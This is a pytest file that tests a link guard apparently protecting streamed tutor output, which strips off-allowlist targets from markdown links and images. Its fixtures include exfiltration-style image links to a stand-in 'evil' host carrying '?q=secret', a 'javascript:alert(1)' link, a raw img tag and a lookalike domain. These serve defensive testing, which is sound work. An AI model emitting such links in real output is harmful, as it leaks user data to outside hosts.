"""Links and images to hosts off the allowlist lose their target and keep their text,
in a whole text and in a stream however it is split."""

import pytest

from tutor.links import LinkGuard, LinkPolicy, neutralise

NONE = LinkPolicy.of([])
DOCS = LinkPolicy.of(["docs.python.org"])


@pytest.mark.parametrize(
    ("written", "neutralised"),
    [
        ("See ![status](http://evil/?q=secret) now.", "See status now."),
        ("Read [the docs](https://evil.example/x?a=(b)) first.", "Read the docs first."),
        ('A [link](<http://evil/a b> "title") here', "A link here"),
        ("Escaped [x](http&#58;//evil/) target", "Escaped x target"),
        ("Nested [![img](http://evil/i.png)](http://evil/) ok", "Nested img ok"),
        ("Alt-less ![](http://evil/p.png)", "Alt-less image"),
        ("[ref]: http://evil/track\n\nUse [it][ref].", "\n\nUse [it][ref]."),
        ("An autolink <http://evil/x?s=1>.", "An autolink `http://evil/x?s=1`."),
        ('Raw <img src="http://evil/p.png"> tag', 'Raw &lt;img src="http://evil/p.png"> tag'),
        ("A js [x](javascript:alert(1)) link", "A js x link"),
        ("Protocol-relative ![p](//evil/p.png)", "Protocol-relative p"),
        ("Plain [brackets] and a < b, `code`", "Plain [brackets] and a < b, `code`"),
        ("Jump [below](#section) works", "Jump [below](#section) works"),
        ("Escaped \\[not](http://evil) a link", "Escaped \\[not](http://evil) a link"),
    ],
)
def test_targets_off_the_allowlist_are_neutralised(written, neutralised):
    assert neutralise(written, NONE) == neutralised


def test_allowed_hosts_and_their_subdomains_keep_their_links():
    text = "[tutorial](https://docs.python.org/3/) and ![x](https://www.docs.python.org/a.png)"
    assert neutralise(text, DOCS) == text
    assert neutralise("[y](https://docs.python.org.evil/)", DOCS) == "y"


TEXTS = [
    "Intro. ![status](http://evil/?q=secret) and [docs](https://docs.python.org/3/) end.",
    "[ref]: http://evil/t\nline [a [nested] label](http://evil/(x)) <http://evil/z> \\[q]",
    "Tricky ![alt [x]](<http://evil/a b> 'title') tail [open",
]


@pytest.mark.parametrize("text", TEXTS)
def test_a_stream_split_anywhere_gives_the_same_text(text):
    whole = neutralise(text, DOCS)
    for size in (1, 2, 3, 7, 13):
        guard = LinkGuard(DOCS)
        pieces = [guard.feed(text[i : i + size]) for i in range(0, len(text), size)]
        assert "".join(pieces) + guard.flush() == whole, size


def test_a_link_split_across_deltas_is_never_released_before_it_is_judged():
    guard = LinkGuard(NONE)
    released = guard.feed("Look: ![status](http://ev")
    assert released == "Look: "
    assert guard.feed("il/?q=secret) done") == "status done"


def test_a_bracket_left_open_too_long_cannot_become_a_link_later():
    guard = LinkGuard(NONE)
    out = guard.feed("[" + "x" * 5000)
    out += guard.feed("](http://evil/)")
    out += guard.flush()
    assert "http://evil" in out and "](http://evil/)" in out
    assert neutralise(out, NONE) == out  # rendered, it is no link
    assert out.startswith("\\[")
